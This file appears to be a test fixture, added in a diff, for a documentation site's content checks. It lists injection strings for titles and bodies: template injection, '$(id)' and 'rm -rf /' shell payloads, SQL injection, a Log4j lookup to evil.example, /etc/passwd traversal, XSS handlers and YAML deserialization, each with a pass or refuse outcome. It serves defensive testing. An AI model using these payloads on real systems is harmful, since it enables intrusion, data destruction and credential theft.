@@ -1,0 +1,60 @@
+"""Includes, extensions and templates of other tools. The site evaluates none of them and shows them as they are written."""
+
+from tests.corpus.hostile.changes import context, edit, line, picture, title
+from tests.pictures.samples import picture as jpeg
+
+TITLES = {
+    "jinja": "Library {{ 7*7 }}",
+    "jinja-config": "Library {{ config.__class__.__init__.__globals__ }}",
+    "jinja-block": "{% include 'secret.html' %} Library",
+    "jinja-raw": "{% endraw %}{{ 7*7 }}{% raw %}",
+    "jinja-comment": "Library {# hidden #} for all",
+    "dollar": "Library ${7*7} ${HOME} $(id)",
+    "hash": "Library #{7*7}",
+    "erb": "Library <%= 7*7 %>",
+    "format": "Library {0.__class__} {title} {suggestion}",
+    "percent": "Library %s %(title)s %n 100%",
+    "python": "__import__('os').system('id')",
+    "shell": "Library; rm -rf / && `id` | sh",
+    "sql": "Robert'); DROP TABLE cases;--",
+    "github-command": "::error file=a,line=1::Library",
+    "log4j": "Library ${jndi:ldap://evil.example/a}",
+    "path": "../../../../etc/passwd",
+    "angular": "Library {{constructor.constructor('alert(1)')()}}",
+}
+BODIES = {
+    "snippet": '--8<-- "../../../../etc/passwd"',
+    "snippet-block": "--8<--\nsecret.md\n--8<--",
+    "snippet-scissors": ";--8<-- a",
+    "include": '{% include "../../secret.md" %}',
+    "include-markdown": "{!../../secret.md!}",
+    "include-at": "@include secret.md",
+    "jinja": "{{ config }} and {{ 7*7 }}",
+    "jinja-code": "They wrote `{{ name }}` and `{% raw %}` in the form.",
+    "env": "!ENV [SECRET, x] and ${HOME} and %PATH%",
+    "toc": "[TOC]",
+    "wikilink": "[[secret]]",
+    "attributes": "A village {: onclick=alert(1) } by the river.",
+    "attributes-block": "A village.\n{: #id .class onclick=alert(1)}",
+    "admonition": '!!! danger "Read"\n    Text.',
+    "mkdocstrings": "::: builder.build",
+    "tabs": '=== "One"\n\n    Text.',
+    "abbreviation": "A village.\n\n*[A]: Area",
+    "emoji-code": "A village :smile: by the river.",
+    "critic": "A {++new++} and {--old--} village.",
+    "mermaid": '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
+    "math": r"A village of $\href{javascript:alert(1)}{x}$ people.",
+    "yaml-example": '```yaml\ntitle: "Water"\nkey: !!python/object/apply:os.system ["id"]\n```',
+}
+ROWS = (
+    *((f"title-{name}", "pass", "", title(text)) for name, text in TITLES.items()),
+    *((f"body-{name}", "pass", "", context(text)) for name, text in BODIES.items()),
+    ("summary-jinja", "pass", "", line("summary", ' "A village keeps {{ books }} and {% lends %} them ${HOME}."')),
+    ("lesson-jinja", "pass", "", edit("Lend books without", "Lend {{ 7*7 }} books without")),
+    ("alt-jinja", "pass", "", picture(jpeg("jpg"), alt="Children {{ 7*7 }} at a {% shelf %}")),
+    ("heading-jinja", "refuse", "KB501", edit("## Context", "## {{ 7*7 }}")),
+    ("heading-command", "refuse", "KB501", edit("## Context", "## x%0A::stop-commands::token")),
+    ("id-jinja", "refuse", "KB205", line("id", ' "{{ 7*7 }}"')),
+    ("id-path", "refuse", "KB205", line("id", ' "../../../etc/passwd"')),
+    ("code-format", "refuse", "KB204", line("status", ' "{value} {codes.__class__}"')),
+)
